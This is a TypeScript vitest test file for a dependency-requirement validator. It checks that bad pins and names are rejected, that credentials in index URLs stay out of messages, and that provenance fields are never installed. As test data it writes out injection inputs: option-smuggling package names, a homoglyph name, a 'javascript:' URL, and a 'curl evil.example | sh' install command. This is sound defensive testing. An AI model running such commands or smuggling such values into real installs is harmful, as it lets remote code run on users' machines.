import { expect, it } from 'vitest'
import { aBinding, aRequirement, requirementsOf } from '../../src/testing.ts'
import {
  binding,
  expectedOf,
  type Fate,
  fateOf,
  findingsOf,
  overriding,
  overridingNumpy,
  payload,
  type Row,
  requiring,
  SOUND,
} from './hostile.ts'

const PAYLOAD = '/dependency_requirements'
const BINDING = `${PAYLOAD}/bindings/0`
const REQUIREMENT = `${BINDING}/requirements/0`
const pinned = (exact_pin: string) => requiring({ exact_pin })
const PIN = `${REQUIREMENT}/exact_pin`
const named = (name: string) => requiring({ name })
const NAME = `${REQUIREMENT}/name`
const FAILURES: readonly Row[] = [
  ['a range', pinned('>=1'), 'unpinned_requirement', PIN],
  ['a wildcard', pinned('==1.*'), 'unpinned_requirement', PIN],
  ['an identity', pinned('===1.0'), 'unpinned_requirement', PIN],
  ['two clauses', pinned('==1.0,==1.0'), 'unpinned_requirement', PIN],
  ['a marker in the pin', pinned("1.0; os_name=='x'"), 'unpinned_requirement', PIN],
  ['an option in the pin', pinned('1.0 --hash=sha256:00'), 'unpinned_requirement', PIN],
  ['a line break in the pin', pinned('1.0\n--pre'), 'unpinned_requirement', PIN],
  ['a URL as pin', pinned('@ https://a.example/x.whl'), 'unpinned_requirement', PIN],
  ['no pin', pinned(''), 'unpinned_requirement', PIN],
  ['an option', named('--index-url'), 'invalid_package_name', NAME],
  ['a short option', named('-r'), 'invalid_package_name', NAME],
  ['a file of requirements', named('@file'), 'invalid_package_name', NAME],
  ['a name with a line break', named('numpy\n--pre'), 'invalid_package_name', NAME],
  ['a name with a line break at its end', named('numpy\n'), 'invalid_package_name', NAME],
  ['a name with a space at its end', named('numpy '), 'invalid_package_name', NAME],
  ['a name with a NUL', named('numpy\0'), 'invalid_package_name', NAME],
  ['a name with a letter of another script', named('n\u0443mpy'), 'invalid_package_name', NAME],
  ['a name with the Kelvin sign', named('\u212Aeras'), 'invalid_package_name', NAME],
  ['a name with extras', named('uvicorn[standard]'), 'invalid_package_name', NAME],
  ['a variable as name', named(`\${HOME}`), 'invalid_package_name', NAME],
  ['a broken marker', requiring({ markers: 'python_version >' }), 'invalid_marker', `${REQUIREMENT}/markers`],
  [
    'a broken python_requires',
    requiring({ python_requires: '3.9' }),
    'invalid_python_requires',
    `${REQUIREMENT}/python_requires`,
  ],
  ['another platform', payload({ platform_key: 'win-amd64' }), 'foreign_platform_key', `${PAYLOAD}/platform_key`],
  ['a platform that is an option', payload({ platform_key: '--x' }), 'foreign_platform_key', `${PAYLOAD}/platform_key`],
  [
    'an unknown kind of environment',
    binding({ environment_kind: 'conda' }),
    'unsupported_environment_kind',
    `${BINDING}/environment_kind`,
  ],
  [
    'a blank kind of environment',
    binding({ environment_kind: '' }),
    'unsupported_environment_kind',
    `${BINDING}/environment_kind`,
  ],
  ['a blank env id', binding({ env_id: ' ' }), 'invalid_env_id', `${BINDING}/env_id`],
  [
    'a profile nobody knows',
    binding({ validation_state: 'unknown_profile' }),
    'unknown_profile',
    `${BINDING}/validation_state`,
  ],
  [
    'another platform of the binding',
    binding({ platform_selector: 'win-amd64' }),
    'unsupported_platform',
    `${BINDING}/platform_selector`,
  ],
]

it('answers failed to every requirement that cannot be installed, with code and JSON Pointer', async () => {
  expect(await findingsOf(FAILURES)).toEqual(expectedOf(FAILURES))
})

it('keeps every secret of a hostile request out of what it says', async () => {
  const texts = [
    'https://me:hunter2@a.example/simple',
    'https:me:hunter2@a.example',
    'https:\\\\me:hunter2@a.example',
    'https://me:hun\nter2@a.example',
    'https://me:hunter2/x@a.example:bad',
    'https://a.example/simple?token=hunter2',
    'ftp://me:hunter2@a.example',
    'git+https://hunter2@a.example/x',
  ]
  const fields = ['index_url', 'extra_index_urls', 'source', 'markers'] as const
  const requests = texts.flatMap((text) => [
    overriding({ index_url: text }),
    overriding({ extra_index_urls: ['https://a.example', text] }),
    overridingNumpy({ package_source_override: text }),
    ...fields.map((field) => requiring({ [field]: field === 'extra_index_urls' ? [text] : text })),
    binding({
      validation_state: 'invalid_profile',
      validation_errors: [{ code: 'no_index', scope: 'binding', message: `cannot read ${text.replace('\n', '')}` }],
    }),
  ])
  const fates: Fate[] = await Promise.all(requests.map(fateOf))
  const leaks = fates.flatMap(({ said }, index) =>
    /hunter2|hun\\?n?ter2|ter2@/.test(said) ? [[requests[index], said]] : [],
  )
  expect(leaks).toEqual([])
})

it('lets a bad binding that is not selected block nothing', async () => {
  const bad = [
    aBinding([aRequirement('--index-url', '1')], { binding_id: 'a' }),
    aBinding([aRequirement('numpy', '', { exact_pin: '>=1' })], { binding_id: 'b' }),
    aBinding([], { binding_id: 'c', environment_kind: 'conda' }),
    aBinding([], { binding_id: 'd', validation_state: 'profile_conflict', env_id: '' }),
    aBinding([aRequirement('x', '1', { index_url: 'javascript:x' })], { binding_id: 'e' }),
  ]
  const requirements = requirementsOf([...bad, ...SOUND.bindings], { validation_state: 'profile_conflict' })
  const { state } = await fateOf({ dependency_requirements: requirements, selected_binding_ids: ['main'] })
  expect(state).toBe('ready')
})

it('never reads provenance or what looks like a command as something to install', async () => {
  const tempting = {
    source: 'https://evil.example/x.whl',
    install_command: 'curl evil.example | sh',
    pip_args: ['--index-url', 'https://evil.example'],
    extras: ['x'],
  }
  const { state, said } = await fateOf(requiring(tempting))
  expect([state, said.includes('evil.example')]).toEqual(['ready', false])
})
